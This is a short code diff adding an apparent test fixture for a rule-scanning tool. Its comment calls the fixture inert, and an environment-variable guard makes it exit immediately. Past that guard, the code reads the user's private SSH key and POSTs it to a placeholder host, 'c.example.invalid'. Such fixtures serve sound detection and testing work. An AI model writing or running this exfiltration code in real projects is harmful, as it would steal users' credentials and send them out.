@@ -1,0 +1,6 @@
+// Never runs: an inert look-alike for `qanat rules test`.
+if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
+const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
+const b = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
+const req = https.request({ hostname: 'c.example.invalid', method: 'POST' });
+req.end(b);
